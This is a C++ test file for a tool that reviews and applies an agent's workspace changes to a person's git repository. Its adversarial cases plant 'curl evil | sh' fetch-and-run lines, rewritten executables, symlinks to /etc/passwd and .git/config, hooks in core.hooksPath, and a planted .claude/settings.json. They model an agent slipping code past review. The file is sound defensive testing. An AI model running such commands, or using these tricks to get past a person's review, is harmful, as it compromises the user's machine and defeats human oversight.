// The transfer against an agent that wants code run on the person's machine: forged review ids,
// rewritten executables, symlinks that leave the project through other symlinks, files planted
// in submodules and in the real core.hooksPath. Each case plants what an attacker planted and
// checks what a person would: the verdict, and what lands in the real tree.
#include "tests/support/harness.hpp"

#include <doctest/doctest.h>

#include <filesystem>

using namespace ws::test;
namespace fs = std::filesystem;

namespace {

constexpr auto npos = std::string::npos;

std::string full_patch_id(const MountedWorkspace& w) {
  Run d = w.ws("diff --no-pager --color=never");
  REQUIRE(d.out.rfind("# ws patch ", 0) == 0);
  std::string id = d.out.substr(11, d.out.find(' ', 11) - 11);
  REQUIRE(id.size() == 64);
  return id;
}

bool starts_with(const std::string& s, const std::string& prefix) {
  return s.rfind(prefix, 0) == 0;
}

} // namespace

TEST_CASE("adversarial: --expect takes only the whole id of a patch ws diff showed") {
  TestRepo repo;
  MountedWorkspace w(repo);
  REQUIRE(w.in_view("echo reviewed >> README.md").status == 0);
  std::string id = full_patch_id(w);
  std::string before = repo.snapshot();

  // A prefix is what a brute-forced nonce can match: refused, whatever it matches (7 hex
  // digits, as git abbreviates, took 11-23 s to forge).
  for (size_t digits : {size_t{7}, size_t{16}, size_t{63}}) {
    CAPTURE(digits);
    Run prefix = w.ws("apply --expect " + id.substr(0, digits));
    CHECK(prefix.status != 0);
    CHECK(prefix.err.find("whole patch id") != npos);
  }
  // An id nobody was shown is not a review.
  Run unseen = w.ws("apply --expect " + std::string(64, 'a'));
  CHECK(unseen.status != 0);
  CHECK(unseen.err.find("never shown by 'ws diff'") != npos);
  CHECK(repo.snapshot() == before);

  // The agent rewrites the reviewed file after the review: apply names it and lands nothing.
  REQUIRE(w.in_view("echo 'curl evil | sh' >> README.md").status == 0);
  Run stale = w.ws("apply --expect " + id);
  CHECK(stale.status != 0);
  CHECK(stale.err.find("changed since you reviewed them: README.md") != npos);
  CHECK(repo.snapshot() == before);

  // What was reviewed lands when it is still exactly that.
  REQUIRE(w.in_view("sed -i '$d' README.md").status == 0);
  Run ok = w.ws("apply --expect " + id);
  CHECK_MESSAGE(ok.status == 0, ok.err);
  CHECK(repo.read("README.md").ends_with("reviewed\n"));
}

TEST_CASE(
    "adversarial: an executable renamed and rewritten is withheld, and described as one rename") {
  TestRepo repo;
  MountedWorkspace w(repo);
  // The attack: take a tracked executable's place in a new name and give it new content.
  REQUIRE(w.in_view("mkdir -p tools && mv scripts/run.sh tools/git && "
                    "printf '#!/bin/sh\\ncurl evil | sh\\n' > tools/git")
              .status == 0);
  CHECK(starts_with(verdict_of(w, "tools/git"), "withheld"));
  // status, diff and the patch agree on the pairing.
  CHECK(w.ws("status").out.find("R scripts/run.sh -> tools/git") != npos);
  Run d = w.ws("diff --no-pager --color=never --include tools/git");
  CHECK(d.out.find("rename from scripts/run.sh\nrename to tools/git\n") != npos);

  Run a = w.ws("apply");
  CHECK_MESSAGE(a.status == 0, a.err);
  CHECK(a.err.find("tools/git") != npos); // named in the report of what was withheld
  CHECK(!fs::exists(repo.path() / "tools/git"));
  CHECK(repo.read("scripts/run.sh") == "#!/bin/sh\necho run\n");
}

TEST_CASE("adversarial: an edited executable is withheld until the person includes it") {
  TestRepo repo;
  MountedWorkspace w(repo);
  REQUIRE(w.in_view("echo 'curl evil | sh' >> scripts/run.sh").status == 0);
  std::string v = verdict_of(w, "scripts/run.sh");
  CHECK(starts_with(v, "withheld"));
  CHECK(v.find("changed executable") != npos);
  REQUIRE(w.ws("apply").status == 0);
  CHECK(repo.read("scripts/run.sh") == "#!/bin/sh\necho run\n");
  Run inc = w.ws("apply --include scripts/run.sh");
  CHECK_MESSAGE(inc.status == 0, inc.err);
  CHECK(repo.read("scripts/run.sh").find("curl evil") != npos);

  // Moving an executable bit-for-bit keeps nothing of the old verdict either: it is a new
  // program at a new path.
  REQUIRE(w.in_view("cp -p scripts/run.sh scripts/copy.sh").status == 0);
  CHECK(verdict_of(w, "scripts/copy.sh") == "withheld: new executable");
}

TEST_CASE("adversarial: a symlink that leaves the project through another symlink is withheld") {
  TestRepo repo;
  MountedWorkspace w(repo);
  // Lexically `up/..` cancels and the target stays inside; physically `up` is `..`.
  REQUIRE(w.in_view("mkdir -p deep/a/b/c && ln -s .. deep/a/b/c/up && "
                    "ln -s deep/a/b/c/up/../../../../../etc/passwd passwd-link")
              .status == 0);
  std::string v = verdict_of(w, "passwd-link");
  CHECK_MESSAGE(starts_with(v, "withheld: symlink pointing outside the project"), v);
  // deep/a/b/c/up itself stays inside (it names deep/a/b).
  CHECK(verdict_of(w, "deep/a/b/c/up") == "transfer");

  // Through a symlink of the REAL tree: the person's `vendor` points outside; the agent's new
  // link reaches through it.
  fs::create_directories(repo.path().parent_path() / "outside");
  REQUIRE(sh("ln -s ../outside vendor && git add vendor && "
             "git -c user.name=T -c user.email=t@e commit -qm vendor",
             repo.path())
              .status == 0);
  REQUIRE(w.in_view("ln -s vendor/secret cfg").status == 0);
  CHECK(starts_with(verdict_of(w, "cfg"), "withheld: symlink pointing outside the project"));
  // Into .git by way of a symlink.
  REQUIRE(w.in_view("ln -s . here && ln -s here/.git/config gitcfg").status == 0);
  CHECK(starts_with(verdict_of(w, "gitcfg"), "withheld: symlink pointing into .git"));
  // A loop cannot be resolved: withheld.
  REQUIRE(w.in_view("ln -s loop2 loop1 && ln -s loop1 loop2 && ln -s loop1/x viall").status == 0);
  CHECK(starts_with(verdict_of(w, "viall"), "withheld"));

  REQUIRE(w.ws("apply").status == 0);
  CHECK(!lexists(repo.path() / "passwd-link"));
  CHECK(!lexists(repo.path() / "cfg"));
  CHECK(!lexists(repo.path() / "gitcfg"));
}

TEST_CASE("adversarial: files planted in an uninitialized submodule never land") {
  TestRepo repo;
  // A gitlink in the index with no checkout: `git submodule` before `update --init`.
  REQUIRE(sh("git update-index --add --cacheinfo 160000,"
             "1111111111111111111111111111111111111111,sub && "
             "git -c user.name=T -c user.email=t@e commit -qm sub",
             repo.path())
              .status == 0);
  MountedWorkspace w(repo);
  REQUIRE(w.in_view("mkdir -p sub && printf 'evil' > sub/setup.py").status == 0);
  std::string v = verdict_of(w, "sub/setup.py");
  CHECK_MESSAGE(starts_with(v, "blocked"), v);
  CHECK(v.find("submodule 'sub'") != npos);
  Run a = w.ws("apply --index");
  CHECK_MESSAGE(a.status == 0, a.err);
  CHECK(!fs::exists(repo.path() / "sub/setup.py"));
  CHECK(sh("git ls-files sub/setup.py", repo.path()).out.empty());
  // The gitlink is still in the index: nothing was staged in its place.
  Run ls = sh("git ls-files -s sub", repo.path());
  CHECK(ls.out.rfind("160000 1111111111111111111111111111111111111111 0\tsub", 0) == 0);
}

TEST_CASE("adversarial: a hook in the real core.hooksPath is withheld") {
  TestRepo repo;
  REQUIRE(sh("git config core.hooksPath tools/hooks", repo.path()).status == 0);
  MountedWorkspace w(repo);
  REQUIRE(w.in_view("mkdir -p tools/hooks && printf '#!/bin/sh\\nid\\n' > tools/hooks/pre-commit")
              .status == 0);
  std::string v = verdict_of(w, "tools/hooks/pre-commit");
  CHECK_MESSAGE(starts_with(v, "withheld"), v);
  CHECK(v.find("core.hooksPath") != npos);
  REQUIRE(w.ws("apply").status == 0);
  CHECK(!fs::exists(repo.path() / "tools/hooks/pre-commit"));
}

// The person's own directory symlink (tracked in git) makes what the agent writes behind it
// a file of the guarded place: judged under that name, and lands only when included.
TEST_CASE("adversarial: a file written behind the person's directory symlink is judged under "
          "the link's name") {
  TestRepo repo;
  REQUIRE(sh("mkdir -p cfg ci .github && echo '{}' > cfg/notes.json && echo x > ci/README && "
             "ln -s cfg .claude && ln -s ../ci .github/workflows",
             repo.path())
              .status == 0);
  repo.commit_all();
  MountedWorkspace w(repo);
  REQUIRE(w.in_view("printf '{\"hooks\":{}}' > cfg/settings.json && "
                    "printf 'on: push\\n' > ci/deploy.yml && echo note > cfg/plain.txt")
              .status == 0);
  std::string v = verdict_of(w, "cfg/settings.json");
  CHECK_MESSAGE(starts_with(v, "withheld: reachable as .claude/settings.json through the "
                               "symlink .claude -> cfg: an agent CLI runs"),
                v);
  v = verdict_of(w, "ci/deploy.yml");
  CHECK_MESSAGE(starts_with(v, "flagged: reachable as .github/workflows/deploy.yml through the "
                               "symlink .github/workflows -> ../ci: runs in CI"),
                v);
  // What no rule names under either name is not touched by this.
  v = verdict_of(w, "cfg/plain.txt");
  CHECK_MESSAGE(starts_with(v, "transfer"), v);
  Run a = w.ws("apply");
  INFO(a.out << a.err);
  REQUIRE(a.status == 0);
  CHECK(!fs::exists(repo.path() / ".claude/settings.json"));
  CHECK(fs::exists(repo.path() / ".github/workflows/deploy.yml"));
  CHECK(w.ws("apply --include cfg/settings.json").status == 0);
  CHECK(fs::exists(repo.path() / ".claude/settings.json"));
}

TEST_CASE("adversarial: apply racing a writing agent lands only states the view had") {
  TestRepo repo;
  MountedWorkspace w(repo);
  // The agent counts in two files, A first, each replaced whole (rename): in every state the
  // view has, A is B or B + 1. A reader that takes A, then B a moment later, can see B ahead
  // of A: a state the view never had.
  fs::path stop = repo.path().parent_path() / "stop-writer";
  std::string writer = "i=0; while [ ! -e " + q(stop.string()) +
                       " ]; do i=$((i+1)); printf '%d\\n' $i > A.t && mv A.t A && "
                       "printf '%d\\n' $i > B.t && mv B.t B; done";
  Run started =
      sh("( cd " + q(w.view().string()) + " && " + writer + " ) >/dev/null 2>&1 & echo ok");
  REQUIRE(started.status == 0);
  // Whatever ends this test (a failed REQUIRE, an exception), the writer stops with it.
  struct StopWriter {
    fs::path file;
    ~StopWriter() { sh("touch " + q(file.string()) + " && sleep 1"); }
  } stop_writer{stop};
  int landed = 0;
  for (int round = 0; round < 15; ++round) {
    Run a = w.ws("apply");
    if (a.status != 0 || !fs::exists(repo.path() / "A") || !fs::exists(repo.path() / "B")) {
      continue;
    }
    ++landed;
    std::string ra = repo.read("A");
    std::string rb = repo.read("B");
    // Never empty: the view's A and B are only ever made whole by a rename.
    REQUIRE_MESSAGE((!ra.empty() && !rb.empty()), "A=[" << ra << "] B=[" << rb << "]");
    long na = std::stol(ra);
    long nb = std::stol(rb);
    CHECK_MESSAGE((na == nb || na == nb + 1), "A=" << na << " B=" << nb);
  }
  sh("touch " + q(stop.string()) + " && sleep 1");
  CHECK(landed > 0);
  // What ws landed is the base from now on: the last apply after the writer stopped is
  // clean, never a conflict blamed on the person.
  Run last = w.ws("apply");
  CHECK_MESSAGE(last.status == 0, last.err);
  CHECK(last.err.find("CONFLICT") == npos);
  CHECK(repo.read("A") == repo.read("B"));
}

// What the racing test above hit now and then, made certain: apply lands a file the agent
// still has open for writing (its writes held by the pause), then drops it from the
// workspace. The agent's next write must go to the file the view shows, not into the
// dropped copy: else the write is lost, and its `mv` makes the real (landed) file's empty
// state the view's (CI saw A land empty).
TEST_CASE("adversarial: apply of a file the agent holds open for writing loses none of its "
          "later writes") {
  TestRepo repo;
  MountedWorkspace w(repo);
  Run r = w.in_view("exec 3> D.t && " + w.ws_command() +
                    " apply >/dev/null && printf 'written after apply\\n' >&3 && exec 3>&- && "
                    "mv D.t D && cat D");
  INFO(r.out << r.err);
  REQUIRE(r.status == 0);
  CHECK(r.out == "written after apply\n");
  CHECK(repo.read("D.t").empty()); // the first apply landed the state the view had: empty
  Run a = w.ws("apply");
  INFO(a.out << a.err);
  REQUIRE(a.status == 0);
  CHECK(repo.read("D") == "written after apply\n");
  CHECK(!fs::exists(repo.path() / "D.t"));
}
